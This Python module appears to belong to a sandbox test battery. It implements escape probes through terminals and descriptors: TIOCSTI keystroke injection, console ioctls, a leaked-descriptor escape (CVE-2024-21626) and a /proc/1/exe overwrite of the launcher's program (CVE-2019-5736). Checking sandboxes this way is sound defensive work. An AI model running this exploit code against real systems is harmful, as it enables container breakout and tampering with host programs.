"""Ways out by what a program is born with: its terminal, its descriptors, the file that it runs."""

from __future__ import annotations

import fcntl
import posix
import time
from ctypes import addressof
from functools import partial

from osmoda.sandbox.battery.attacks import Facts, add_attack, attack
from osmoda.sandbox.battery.kernel import Refused, buffer, call, open_path, read

FAMILY = "terminal and descriptors"

_TIOCSTI, _TIOCLINUX, _TIOCCONS, _TIOCSETD = 0x5412, 0x541C, 0x541D, 0x5423
_TIOCSPTLCK, _TIOCGPTN, _FIONREAD = 0x40045431, 0x80045430, 0x541B
_TCSETS, _TCGETS = 0x5402, 0x5401
_ICANON = 0x2  # in c_lflag, the fourth word of struct termios
_EBADF, _ENOTDIR, _ETXTBSY = 9, 20, 26


def _terminal() -> tuple[int, int]:
    """A pty of our own, its slave the controlling terminal of the attack's session (pty(7))."""
    master = open_path("/dev/ptmx", posix.O_RDWR | posix.O_NOCTTY)
    unlocked = buffer(4)
    call("ioctl", master, _TIOCSPTLCK, unlocked, about=("terminal",))
    number = buffer(4)
    call("ioctl", master, _TIOCGPTN, number, about=("terminal",))
    return master, open_path(f"/dev/pts/{int.from_bytes(number.raw, 'little')}", posix.O_RDWR)


def _type_into(facts: Facts, high_bits: int) -> str:
    del facts
    _, slave = _terminal()
    settings = buffer(64)
    call("ioctl", slave, _TCGETS, settings, about=("terminal",))
    # One character at a time, or what is typed does not count before the end of the line.
    flags = int.from_bytes(settings.raw[12:16], "little") & ~_ICANON
    settings.raw = settings.raw[:12] + flags.to_bytes(4, "little") + settings.raw[16:]
    call("ioctl", slave, _TCSETS, settings, about=("terminal",))
    character = buffer(b"x")
    request = high_bits << 32 | _TIOCSTI
    call("ioctl", slave, request, character, about=("terminal",))
    waiting = int.from_bytes(fcntl.ioctl(slave, _FIONREAD, bytes(4)), "little")
    if not waiting:
        raise Refused(0, "ioctl", (slave, request, addressof(character)), ("terminal",))
    return "a character was typed into the terminal"


for _name, _title, _high_bits in (
    ("tiocsti", "type into the terminal (TIOCSTI)", 0),
    ("tiocsti-high-bits", "the same with high bits set (CVE-2019-10063)", 0xFFFFFFFF),
):
    add_attack(_name, FAMILY, _title, partial(_type_into, high_bits=_high_bits))


def _terminal_call(request: int, argument: int, answers: str) -> str:
    _, slave = _terminal()
    words = buffer(argument.to_bytes(4, "little") + bytes(60))
    try:
        call("ioctl", slave, request, words, about=("terminal",))
    except Refused as refused:
        if refused.number in {int(number) for number in answers.split()}:
            return "the terminal's driver answered"
        raise
    return "the terminal's driver did it"


@attack(FAMILY, "paste on the console (TIOCLINUX)")
def tioclinux(_: Facts) -> str:
    return _terminal_call(_TIOCLINUX, 1, "25")  # ENOTTY: a pty is no console


@attack(FAMILY, "load a line discipline (TIOCSETD)")
def tiocsetd(_: Facts) -> str:
    return _terminal_call(_TIOCSETD, 1, "22")  # EINVAL: it is not there


@attack(FAMILY, "take the console's output (TIOCCONS)", privileged=True)
def tioccons(_: Facts) -> str:
    return _terminal_call(_TIOCCONS, 1, "16")  # EBUSY: somebody has it


@attack(FAMILY, "climb out by a directory left open (CVE-2024-21626)")
def left_open(facts: Facts) -> str:
    """Every descriptor above 2: one that is a directory leads to the secret below it."""
    for fd in range(3, 1024):
        try:
            file = call("openat", fd, b"secret", posix.O_RDONLY, 0, about=("descriptor",))
        except Refused as refused:
            if refused.number in (_EBADF, _ENOTDIR):  # nothing, or the battery's own pipes
                continue
            raise
        if facts["token"].encode() in read(file):
            return f"descriptor {fd} leads to the caller's folder"
    raise Refused(_EBADF, "openat", (), ("descriptor",))


@attack(FAMILY, "write to the launcher's program (CVE-2019-5736)")
def overwrite_program(facts: Facts) -> str:
    """Hold the program of pid 1 by /proc/1/exe, and open it for writing when it no longer runs."""
    pid = facts["init"]
    about = ("init", f"/proc/{pid}/exe")
    held = call("openat", -100, f"/proc/{pid}/exe".encode(), posix.O_PATH, 0, about=about)
    call("kill", pid, 9, about=about)
    for _ in range(1000):
        try:
            call("openat", -100, f"/proc/self/fd/{held}".encode(), posix.O_WRONLY, 0, about=about)
        except Refused as refused:
            if refused.number != _ETXTBSY:  # it still runs
                raise
            time.sleep(0.01)
        else:
            return "its program is open for writing"
    raise Refused(_ETXTBSY, "openat", (), about)
